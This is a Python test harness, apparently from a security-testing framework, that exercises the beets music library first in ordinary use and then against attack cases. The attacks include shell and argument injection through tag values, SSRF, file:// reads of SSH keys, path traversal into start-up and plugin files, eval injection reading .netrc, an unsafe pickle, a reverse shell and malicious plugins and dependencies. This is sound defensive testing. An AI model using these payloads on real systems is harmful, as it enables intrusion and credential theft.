# SPDX-License-Identifier: Apache-2.0
"""beets keeps a household's music."""
import os
import pickle
import struct

from attackers import Bomb
import stage

TONES = {"__init__.py": "def label(artist, title):\n"
                        '    return f"{artist}: {title}"\n'}
TONES_NEW = {
    "__init__.py": "from .forms import label\n",
    "forms.py": "import importlib.resources\n\n\ndef label(artist, title):\n"
                '    form = importlib.resources.files("tones").joinpath(\n'
                '        "form.txt").read_text()\n'
                "    return form.format(artist, title)\n",
    "form.txt": "{} / {}\n"}


def flac(**tags):
    """A second of nothing, with tags."""
    comments = b"".join(
        struct.pack("<I", len(line)) + line for line in (
            f"{key}={value}".encode() for key, value in tags.items()))
    comment = struct.pack("<I", 4) + b"none" + struct.pack(
        "<I", len(tags)) + comments
    info = struct.pack(">HH6xQ16x", 4096, 4096,
                       44100 << 44 | 1 << 41 | 15 << 36 | 44100)
    return (b"fLaC" + struct.pack(">I", len(info)) + info
            + struct.pack(">I", 0x84 << 24 | len(comment)) + comment)


class MusicLibrary(stage.Program):
    """A music library with plug-ins, run from a shell (beets)."""
    packages = ["beets"]

    def arrange(self):
        self.install("tones", "2.0", TONES)

    def arrange_benign(self):
        self.install("tones", "2.1", TONES_NEW)

    def environment(self):
        return {**super().environment(), "BEETSDIR": str(self.srv)}

    def beet(self, *arguments):
        return self.run(self.python, "/usr/bin/beet", *arguments)

    def expect_beet(self, *arguments, **expected):
        self.expect_run(("beet", *arguments), self.beet(*arguments),
                        **expected)

    def bring(self, folder, artist, album, titles, genre="Folk", year=1999,
              comment="", name="{0:02} {1}.flac"):
        """An album, as somebody hands it over."""
        for number, title in enumerate(titles, 1):
            stage.write(
                self.place / "incoming" / folder
                / name.format(number, title.replace("/", "-")),
                flac(artist=artist, albumartist=artist, album=album,
                     title=title, tracknumber=number, genre=genre, date=year,
                     comment=comment))
        return self.place / "incoming" / folder

    # ------------------------------------------------------------ ordinary use
    def keep(self, folder, artist, album, titles, stick, listing, **tags):
        """An album, from the bag to the shelf, the stick and the car."""
        covers = self.site("covers")
        covers.page("*", b"\xff\xd8 cover")
        path = self.bring(folder, artist, album, titles,
                          comment=f"{covers.url}/{len(album)}.jpg", **tags)
        self.expect_beet("import", "-q", "-A", path)
        self.expect_beet("ls", "-f", "$artist: $title ($decade)",
                         f"album:{album}", found=f"{artist}: {titles[0]}")
        self.expect_beet("cover", f"album:{album}", found="cover of")
        self.expect_beet("label", f"album:{album}", found="label of")
        self.expect_beet("modify", "-y", f"album:{album}", "mood=fine",
                         found=titles[0])
        ratings = stage.write(self.place / f"incoming/{folder}.ratings",
                              pickle.dumps({titles[0]: 5}))
        self.expect_beet("rate", ratings, found="1 ratings")
        self.expect_beet("convert", "-y", "-d", stick, f"album:{album}")
        self.expect(f"{stick} filled", any(stick.rglob("*.flac")))
        self.expect_beet("export", "-o", listing, f"album:{album}")
        self.expect_beet("pack", listing.name, f"album:{album}",
                         found="packed 1")

    def lists(self, name):
        return self.srv / "lists" / name

    def train(self, day):
        (self.srv / "lists").mkdir()
        sticks = self.place / "sticks"
        self.keep("bag", "The Fiddlers", "Hay", ["Barn", "Cow song"],
                  sticks / "walkman", self.lists(f"hay-{day}.json"))
        self.keep(f"loan {day}", "Anna Berg", f"Songs vol. {day}",
                  ["One", "Two (live)", f"Three {day}"], sticks / "walkman",
                  self.lists("songs.json"), genre="Pop", year=2001)
        self.keep("cd", "Die Band", "Laut", ["Ärger"], sticks / f"car-{day}",
                  self.lists("all.csv.json"), genre="Rock", year=1984)
        self.expect_beet("splupdate", made=["playlists/everything.m3u",
                                            "playlists/1980s.m3u"])
        self.expect_beet("worth", "3", "*", "5", found="worth 15")
        self.expect_beet("stats", found="Tracks: 6")
        self.expect_beet("info", "title:Barn", found="Fiddlers")
        self.expect_beet("remove", "-d", "-f", "title:Barn")
        self.expect_beet("ls", "album:None")
        self.expect_beet("import", "-q", "-A", "/nowhere", status=1,
                         found="no such file")

    def benign(self):
        (self.srv / "lists").mkdir()
        sticks = self.place / "sticks"
        self.keep("Oma/LPs 1/disc.2", "O'Brien & Söhne", "Größe, 1. Teil",
                  ["A-Seite", "Was? Nun!", "B.Seite"], sticks / "kitchen radio",
                  self.lists("2026-11-21 oma.json"), genre="Schlager",
                  year=1967, name="track {0}.v2.flac")
        self.keep("new-2", "Zoë", "x", ["u"], sticks / "walkman",
                  self.lists("x.jsonl"), genre="Drum'n'Bass", year=2026)
        self.keep("cd", "Die Band", "Leise", ["Ärger II", "Ruhe"],
                  sticks / "car-9", self.lists("leise"), genre="Rock",
                  year=2012)
        single = self.bring("single", "Hans Peter", "", ["Lone.mix"])
        self.expect_beet("import", "-q", "-A", "-s", single)
        self.expect_beet("splupdate", made=["playlists/1960s.m3u",
                                            "playlists/2020s.m3u"])
        self.expect_beet("modify", "-y", "title:Ruhe", "title=Stille")
        self.expect_beet("move", "title:Stille",
                         made=["music/Die Band/Leise/02 Stille.flac"])
        self.expect_beet("stats", found="Tracks: 7")
        self.expect_beet("duplicates", status=1, found="unknown command")
        self.expect_beet("export", "-f", "csv", "title:Stille",
                         found="Stille")
        self.expect_beet("update", "-p")
        self.expect_beet("write", "-p")
        self.expect_beet("fields", found="decade")
        self.expect_beet("remove", "-d", "-f", "-a", "album:x")
        stage.write(self.place / "incoming/bad/broken.flac", b"fLaC")
        self.expect_beet("import", "-q", "-A", self.place / "incoming/bad")
        self.expect_beet("import", "-q", "-A", "--pretend",
                         self.place / "incoming/cd")

    def health(self):
        self.expect_beet("worth", "3", "*", "5", found="worth 15")
        self.expect_beet("stats", found="Tracks")
        path = self.bring("bag", "The Fiddlers", "Hay", ["Barn"])
        self.expect_beet("import", "-q", "-A", path)
        self.expect_beet("label", "title:Barn", found="label of")

    # ----------------------------------------------------------------- attacks
    def hands_over(self, artist="Mallory", album="Evil", title="Trap",
                   **tags):
        """Music whose tags are chosen with care."""
        return self.beet("import", "-q", "-A", self.bring(
            "evil", artist, album, [title], name="{0}.flac", **tags))

    def covered(self, url):
        self.hands_over(comment=url)
        self.beet("cover", "album:Evil")
        return b"".join(path.read_bytes() for path in (
            self.srv / "music").rglob("cover.jpg"))

    def labelled(self, genre, title="Trap"):
        self.hands_over(genre=genre, title=title)
        self.beet("label", "album:Evil")

    def worth(self, code):
        return self.beet("worth", code)

    def executes(self, code):
        return self.worth(f"exec({code!r})")

    def rated(self, *call):
        self.beet("rate", stage.write(self.place / "incoming/cd.ratings",
                                      pickle.dumps(Bomb(*call))))

    @stage.attack("command injection", fresh=True)
    def album_runs_a_command(self):
        return self.runs_line(lambda line: self.hands_over(
            album=f"Evil $({line})"))

    @stage.attack("argument injection", fresh=True)
    def artist_is_an_option_of_tar(self):
        self.beet("import", "-q", "-A", self.bring(
            "bag", "The Fiddlers", "Hay", ["Barn"]))
        self.hands_over(artist="-Itee plugins", album="evil.py")
        self.beet("pack", "x", "genre:Folk")
        return (self.srv / "plugins/evil.py").exists()

    @stage.attack("SSRF", fresh=True)
    def cover_is_an_internal_service(self):
        return self.fetches_inside(self.covered)

    @stage.attack("secret disclosure", fresh=True)
    def cover_is_a_private_key(self):
        return self.is_told(self.covered(f"file://{self.home}/.ssh/id_rsa"))

    @stage.attack("write to start-up file", fresh=True)
    def label_is_written_to_the_home(self):
        self.labelled(f"{self.home}/.config/autostart")
        return (self.home / ".config/autostart/Trap.txt").exists()

    @stage.attack("write to code", fresh=True)
    def label_is_written_to_the_plugins(self):
        self.labelled("../plugins/evil", "__init__.py")
        return (self.srv / "plugins/evil").exists()

    @stage.attack("write to code", fresh=True)
    def pack_replaces_a_plugin(self):
        self.hands_over()
        self.beet("pack", "../plugins/shelf.py", "album:Evil")
        return (self.srv / "plugins/shelf.py.tar").exists()

    @stage.attack("traversal", fresh=True)
    def export_replaces_the_configuration(self):
        self.beet("export", "-o", "config.yaml")
        return "SPDX" not in (self.srv / "config.yaml").read_text()

    @stage.attack("traversal", fresh=True)
    def export_is_written_to_the_home(self):
        self.beet("export", "-o", self.home / ".profile")
        return "umask" not in (self.home / ".profile").read_text()

    @stage.attack("secret disclosure")
    def worth_is_a_password(self):
        return self.is_told(self.worth(f"open('{self.home}/.netrc').read()"))

    @stage.attack("secret disclosure")
    def worth_is_the_payroll(self):
        return self.is_told(self.worth(
            f"open('{self.place}/payroll/2026.csv').read()"))

    @stage.attack("eval injection")
    def worth_runs_a_command(self):
        return self.runs_line(lambda line: self.worth(
            f"__import__('os').system('{line}')"))

    @stage.attack("exfiltration")
    def worth_sends_credentials(self):
        return self.steals(self.executes)

    @stage.attack("fork+exec")
    def worth_forks(self):
        return self.forks(self.executes)

    @stage.attack("ctypes")
    def worth_calls_libc(self):
        return self.runs_libc(self.worth)

    @stage.attack("reverse shell")
    def ratings_call_home(self):
        return self.calls_home(lambda code: self.rated(exec, code))

    @stage.attack("unsafe pickle")
    def ratings_run_a_command(self):
        return self.runs_line(lambda line: self.rated(os.system, line))

    @stage.attack("malicious plugin", fresh=True)
    def plugin_runs_a_command(self):
        def use(line):
            stage.write(self.srv / "plugins/evil.py", "import os\n"
                        f"os.system('{line}')\n")
            config = self.srv / "config.yaml"
            config.write_text(config.read_text().replace(
                "shelf]", "shelf, evil]"))
            self.beet("stats")
        return self.runs_line(use)

    @stage.attack("symlink swap", fresh=True)
    def labels_became_a_link(self):
        (self.srv / "labels").mkdir(exist_ok=True)
        (self.srv / "labels/Jazz").symlink_to(self.home)
        self.labelled("Jazz")
        return (self.home / "Trap.txt").exists()

    @stage.attack("malicious dependency", fresh=True)
    def tones_sends_credentials(self):
        return self.dependency_steals("tones", "2.0.1", TONES,
                                      lambda: self.beet("stats"))
